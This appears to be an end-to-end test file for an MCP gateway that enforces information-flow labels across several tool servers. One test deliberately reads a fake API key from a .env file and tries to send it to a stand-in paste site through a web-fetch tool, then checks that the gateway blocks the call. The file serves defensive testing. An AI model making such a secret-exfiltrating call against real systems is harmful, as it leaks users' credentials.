"""`airlock run --all`: several real upstream servers behind one gateway session, driven by the
real mcp client. The point of it: one label state across servers, so a secret read from one
server cannot leave through another server's egress tool."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import anyio
import orjson
import pytest
from mcp import Client
from mcp.client.stdio import StdioServerParameters
from mcp.shared.exceptions import MCPError

from gateway.errors import FLOW_DENIED, INVALID_PARAMS
from gateway.labels.masks import META_KEY
from tests.e2e.conftest import FIXTURE_SERVERS, ROOT, TRANSPARENT_POLICY, everything_argv

pytestmark = pytest.mark.anyio
SCENARIOS = FIXTURE_SERVERS / "scenarios"
KEY = "sk-live-4f9a2c7e1b8d6035"  # the API key in the files scenario's .env

CROSS_SERVER_POLICY = """
version = 1
default = "deny"

[pins]
unpinned = "trust-on-first-use"

[[rules]]
id = "scenario-tools"
tools = ["files.*", "web.*"]
action = "allow"

[[tools]]
tools = ["files.read_file"]
class = "read"
fields = { "variables" = "secret" }
trusted_fields = ["path", "format"]

[[tools]]
tools = ["web.fetch"]
class = "egress"
control = ["url"]

[[flows]]
id = "no-secret-egress"
labels = ["private", "secret"]
to = ["egress"]
"""


def _config(tmp_path: Path, servers: dict[str, list[str]]) -> Path:
    lines = []
    for name, argv in servers.items():
        lines += [f"[upstreams.{name}]", f"command = {orjson.dumps(argv[0]).decode()}", f"args = {orjson.dumps(argv[1:]).decode()}", ""]
    path = tmp_path / "airlock.toml"
    path.write_text("\n".join(lines))
    return path


def _hub(config: Path, policy: Path, *extra: str) -> StdioServerParameters:
    args = ["-m", "gateway", "run", "--all", "--config", str(config), "--policy", str(policy), "--log-level", "warning", *extra]
    return StdioServerParameters(command=sys.executable, args=args, cwd=str(ROOT))


def _scenario(name: str) -> list[str]:
    return [sys.executable, str(SCENARIOS / f"{name}_server.py")]


async def test_tools_of_every_upstream_are_listed_under_their_server_name_and_called_there(tmp_path: Path) -> None:
    config = _config(tmp_path, {"everything": everything_argv(), "files": _scenario("files")})
    with anyio.fail_after(90):
        async with Client(_hub(config, TRANSPARENT_POLICY), mode="legacy") as client:
            names = {tool.name for tool in (await client.list_tools()).tools}
            echoed = await client.call_tool("everything__echo", {"message": "through the hub"})
            listed = await client.call_tool("files__list_files", {})
            with pytest.raises(MCPError) as unknown:
                await client.call_tool("echo", {"message": "no server named"})
    assert {"everything__echo", "files__read_file", "files__list_files"} <= names
    assert all(name.split("__", 1)[0] in ("everything", "files") for name in names)
    assert echoed.content[0].text == "Echo: through the hub"  # type: ignore[union-attr]
    assert (echoed.meta or {})[META_KEY]["source"]["server"] == "everything"
    assert not listed.is_error and (listed.meta or {})[META_KEY]["source"]["server"] == "files"
    assert unknown.value.error.code == INVALID_PARAMS and "SERVER__NAME" in unknown.value.error.message


async def test_a_secret_read_from_one_server_cannot_leave_through_another_servers_egress_tool(tmp_path: Path) -> None:
    config = _config(tmp_path, {"files": _scenario("files"), "web": _scenario("web")})
    policy = tmp_path / "policy.toml"
    policy.write_text(CROSS_SERVER_POLICY)
    logs = tmp_path / "logs"
    logs.mkdir()
    with anyio.fail_after(90):
        async with Client(_hub(config, policy, "--log", str(logs), "--ephemeral-key"), mode="legacy") as client:
            await client.list_tools()
            benign = await client.call_tool("web__fetch", {"url": "https://docs.example.com/start"})
            secret = await client.call_tool("files__read_file", {"path": "/home/user/project/.env"})
            with pytest.raises(MCPError) as leak:
                await client.call_tool("web__fetch", {"url": f"https://paste.example.net/new?k={KEY}"})
            after = await client.call_tool("web__fetch", {"url": "https://docs.example.com/start"})
    assert not benign.is_error and not after.is_error  # ordinary browsing still works
    assert (secret.meta or {})[META_KEY]["confidentiality"] == "secret"
    error = leak.value.error
    assert error.code == FLOW_DENIED, error
    data: dict[str, Any] = error.data or {}
    assert data["rule"] == "no-secret-egress" and data["argument"] == "url"
    assert data["source"]["server"] == "files"  # the label came from the other server
    # One flight log for the session, with both servers' entries, that verifies.
    [log_file] = list(logs.iterdir())
    entries = [orjson.loads(line) for line in log_file.read_bytes().splitlines()]
    calls = [entry for entry in entries if entry.get("kind") == "call"]
    assert {entry.get("server") for entry in calls} >= {"files", "web"}
    assert all(str(entry["request_id"]).split("~hub-")[0].isdigit() for entry in calls)  # the client's own id, first
    verified = subprocess.run([sys.executable, "-m", "gateway", "verify", str(log_file)], cwd=str(ROOT), capture_output=True,
                              timeout=60, check=False)  # fmt: skip
    assert verified.returncode == 0, verified.stdout + verified.stderr


def test_all_needs_a_config_and_refuses_a_command_line_upstream(tmp_path: Path) -> None:
    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "gateway", "run", "--all", *args], cwd=str(ROOT), capture_output=True, text=True,
                              input="", timeout=60, check=False)  # fmt: skip

    assert run().returncode == 2 and "add --config FILE" in run().stderr
    config = _config(tmp_path, {"files": _scenario("files")})
    refused = run("--config", str(config), "--", "echo")
    assert refused.returncode == 2 and "--all takes its upstreams from --config" in refused.stderr
    from_env = run("--config", str(config), "--url-env", "HOME")
    assert from_env.returncode == 2 and "--all takes its upstreams from --config" in from_env.stderr
    bad = tmp_path / "bad.toml"
    bad.write_text('[upstreams.a__b]\ncommand = "x"\n')
    named = run("--config", str(bad))
    assert named.returncode == 2 and "rename it" in named.stderr
